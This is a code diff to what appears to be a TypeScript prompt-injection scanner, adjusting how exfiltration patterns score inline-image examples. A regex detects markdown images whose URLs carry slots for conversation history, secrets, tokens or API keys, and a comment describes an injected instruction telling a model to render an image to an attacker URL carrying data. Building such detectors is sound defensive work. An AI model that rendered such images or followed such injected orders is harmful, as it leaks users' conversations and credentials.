@@ -20,6 +20,7 @@ import { alt, gap, SEP, WORD } from "./rx.ts";
 import { DocContext, inExplanatoryContext, operatorRulesFile, ownRepoNotes } from "./context.ts";
 import { speakerTurns } from "./patterns-reader-orders.ts";
 import { reportedAttackOutput } from "./described-behaviour.ts";
+import { inlineImageExample, inlineImageUrlExample } from "./image-example.ts";
 import { describedReaders, pageStatementOnly } from "./address-no-ask.ts";
 
 /** Minimum weight for a match to be reported on its own. */
@@ -793,7 +794,7 @@ export const ENGLISH_PATTERNS: Pattern[] = [
     description: "Exfiltration: markdown image whose URL carries a data slot",
     re: /!\[[^\]\n]{0,120}\]\(\s{0,3}<?(?:https?:)?\/\/[^\s)]{1,300}?[?&#/][^\s)=&?#]{0,40}=?(?:\{\{[^{}\n]{3,200}\}\}|\{\{?[^}\s]{1,60}\}\}?|\{[^{}\n]{3,200}\}|\$\{?[A-Za-z_]{1,40}\}?|<[^>\n]{1,80}>|[A-Z_]{0,30}(?:HISTORY|CONVERSATION|CHAT|MESSAGES|SECRETS?|PASSWORDS?|TOKENS?|API_?KEYS?|EMAILS?|CONTEXT|PROMPT|SUMMARY|COOKIES?)\b|\[[A-Za-z_ ]{2,40}\]|%7B|%3C|INSERT|\bDATA\b|\bSECRET\b|CONTENTS?\b|SUMMARY\b|HISTORY\b|\.\.\.)/g,
     // "An injected instruction may ask the model to render ![](https://attacker…/?d=<data>)": a security doc telling of the attack.
-    anchors: ["!["], before: 0, after: 500, judge: (m, t, s) => (documentedParameter(m, t, s) ? 0 : slotJudge(m)) * (reportedAttackOutput(t, s) ? 0.2 : 1),
+    anchors: ["!["], before: 0, after: 500, judge: (m, t, s) => (documentedParameter(m, t, s) || inlineImageExample(m, t, s) ? 0 : slotJudge(m)) * (reportedAttackOutput(t, s) ? 0.2 : 1),
   },
   {
     id: "exfil.markdown-link-slot", family: "exfil", weight: 0.55,
@@ -826,7 +827,7 @@ export const ENGLISH_PATTERNS: Pattern[] = [
     anchors: ["http"], also: ["prompt", "api_key", "apikey", "secret", "password", "token", "history", "conversation", "messages", "credential", "summary", "context", "env", "ssh_key", "private_key", "user_data", "email", "cookie", "session"], before: 0, after: 320,
     // key=YOUR_API_KEY, token=TOKEN: API documentation naming the parameter's own value.
     // A slot named for the reader's conversation or the user's password (conversation=CONVERSATION) stays a weak signal: it counts beside an order to the reader.
-    judge: (m, t, s) => (developerKeySlot(m, t, s) || urlFixtureRow(t, s) ? 0 : documentedParameter(m, t, s) ? (READER_DATA_SLOT.test(m) ? 0.45 : 0) : 1) * (reportedAttackOutput(t, s) ? 0.2 : 1),
+    judge: (m, t, s) => (developerKeySlot(m, t, s) || urlFixtureRow(t, s) || inlineImageUrlExample(t, s, s + m.length) ? 0 : documentedParameter(m, t, s) ? (READER_DATA_SLOT.test(m) ? 0.45 : 0) : 1) * (reportedAttackOutput(t, s) ? 0.2 : 1),
   },
   {
     id: "exfil.url-prose-slot", family: "exfil", weight: 0.65,
